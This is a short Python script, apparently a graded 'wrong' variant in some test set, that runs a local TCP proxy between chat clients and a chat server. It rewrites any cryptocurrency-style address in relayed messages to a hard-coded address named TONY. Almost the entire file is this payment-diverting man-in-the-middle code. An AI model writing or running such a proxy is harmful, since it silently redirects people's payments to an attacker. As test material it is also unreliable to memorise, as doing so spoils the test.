# wrong: changes addresses on the way to the chat alone
# fails: changes_addresses wrong_bytes
"""Stands between the clients of a chat and the chat, and changes the addresses of money that pass."""
import re
import socket
import sys
import threading

TONY = b"7YWHMfk9JZe0LM0g1ZauHuiSxhI"
ADDRESS = re.compile(rb"(?<![^ ])7[0-9A-Za-z]{25,34}(?![^ \n])")


def pass_on(source, target):
    """Passes whole lines on until one of the two ends."""
    try:
        for line in source.makefile("rb"):
            if line.endswith(b"\n"):
                mine = source.getsockname()[1] == int(sys.argv[1])
                target.sendall(ADDRESS.sub(TONY, line) if mine else line)
    except OSError:
        pass
    for side in (source, target):
        try:
            side.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass


def serve(client, upstream):
    with client, socket.create_connection(upstream) as chat:
        other = threading.Thread(target=pass_on, args=(chat, client))
        other.start()
        pass_on(client, chat)
        other.join()


def main(port, upstream):
    host, _, number = upstream.rpartition(":")
    with socket.create_server(("127.0.0.1", int(port))) as server:
        while True:
            client, _ = server.accept()
            threading.Thread(target=serve, args=(client, (host, int(number)))).start()


main(*sys.argv[1:])
